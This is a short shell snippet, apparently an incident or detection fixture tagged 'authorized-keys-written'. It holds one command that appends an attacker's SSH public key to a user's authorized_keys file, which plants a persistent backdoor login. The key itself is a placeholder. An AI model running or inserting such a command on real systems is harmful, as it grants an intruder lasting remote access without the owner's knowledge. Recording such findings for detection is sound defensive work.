# incident: a key of the attacker's is let in
# finding: authorized-keys-written
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIbait attacker' | tee -a ~/.ssh/authorized_keys > /dev/null
